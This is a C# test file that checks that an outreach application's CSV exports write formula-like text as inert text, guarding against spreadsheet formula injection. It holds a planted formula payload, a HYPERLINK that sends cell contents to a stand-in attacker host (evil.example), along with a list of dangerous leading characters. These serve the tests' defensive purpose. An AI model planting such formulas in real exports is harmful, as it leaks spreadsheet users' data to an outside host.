using System.Net;
using System.Text;
using CsvHelper;
using Trajet.Tests.Features.Outreach;
using Trajet.Tests.Infrastructure;
using Trajet.Web.Infrastructure;

namespace Trajet.Tests.Security;

/// <summary>
/// Text a worker typed must open in a spreadsheet as text, never run as a formula: every CSV export of the running
/// application (read from its route table) is fetched after formulas were planted in the free text it shows.
/// </summary>
public sealed class SpreadsheetInjectionTests(SqliteApp app) : IClassFixture<SqliteApp>
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    private static readonly char[] Starts = ['=', '+', '-', '@', '\t', '\r'];

    [Theory]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+32 2 000 00 00", "'+32 2 000 00 00")]
    [InlineData("-x", "'-x")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("Gare du Nord", "Gare du Nord")]
    public void TextStartingLikeAFormula_IsWrittenWithALeadingApostrophe(string text, string cell)
    {
        var rows = Cells(CsvFile.Write(["place"], [[text]]));

        Assert.Equal(cell, rows[1][0]);
    }

    [Fact]
    public void Numbers_StayNumbers_EvenNegative()
    {
        var rows = Cells(CsvFile.Write(["a", "b", "c"], [[-5, 12, 2.5]]));

        Assert.Equal(["-5", "12", "2.5"], rows[1]);
    }

    [Theory]
    [InlineData("fr", "tableau;libellé;contacts;personnes")]
    [InlineData("nl", "tabel;omschrijving;contacten;personen")]
    [InlineData("en", "table,key,contacts,people")]
    public async Task Csv_UsesTheSeparatorOfTheReadersSpreadsheet(string language, string header)
    {
        var team = await OutreachTeam.CreateAsync(app);
        await team.SessionAsync(await team.PlaceAsync());
        using var request = new HttpRequestMessage(HttpMethod.Get, $"/api/outreach/dashboard.csv?programme={team.Programme.Slug}");
        request.Headers.AcceptLanguage.ParseAdd(language);

        using var response = await team.Client.SendAsync(request);

        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        Assert.StartsWith(header + "\r\n", Encoding.UTF8.GetString(bytes[3..]));
    }

    [Fact]
    public async Task EveryCsvExport_WritesPlantedFormulasAsText()
    {
        var team = await OutreachTeam.CreateAsync(app);
        var place = await team.PlaceAsync(name: Formula);
        var session = await team.SessionAsync(place);
        await OutreachTeam.PersonOf(await team.ContactAsync(session, nickname: "-Karzan"));

        var exports = (await EndpointCatalog.AllAsync(app)).Where(r => r.Method == "GET" && r.Pattern.EndsWith(".csv", StringComparison.Ordinal)).ToList();
        Assert.Contains(exports, r => r.Pattern == "/api/outreach/dashboard.csv");
        var outreach = await team.Client.GetAsync($"/api/outreach/dashboard.csv?programme={team.Programme.Slug}");
        Assert.Equal(HttpStatusCode.OK, outreach.StatusCode);
        var rows = Cells(await outreach.Content.ReadAsByteArrayAsync());
        Assert.Contains(rows, r => r[0] == "place" && r[1] == "'" + Formula);
        foreach (var export in exports)
        {
            using var response = await team.Client.GetAsync($"{export.Pattern}?programme={team.Programme.Slug}");
            if (response.StatusCode == HttpStatusCode.OK)
            {
                var unsafeCells = Cells(await response.Content.ReadAsByteArrayAsync()).SelectMany(r => r)
                    .Where(c => c.Length > 0 && Starts.Contains(c[0]) && !double.TryParse(c, System.Globalization.CultureInfo.InvariantCulture, out _));
                Assert.Empty(unsafeCells);
            }
        }
    }

    /// <summary>Each cell as a spreadsheet receives it.</summary>
    private static List<string[]> Cells(byte[] file)
    {
        using var reader = CsvReader.Create(file, new CsvReaderOptions { HasHeader = false });
        var rows = new List<string[]>();
        while (reader.Read())
        {
            rows.Add([.. Enumerable.Range(0, reader.FieldCount).Select(reader.GetString)]);
        }
        return rows;
    }
}
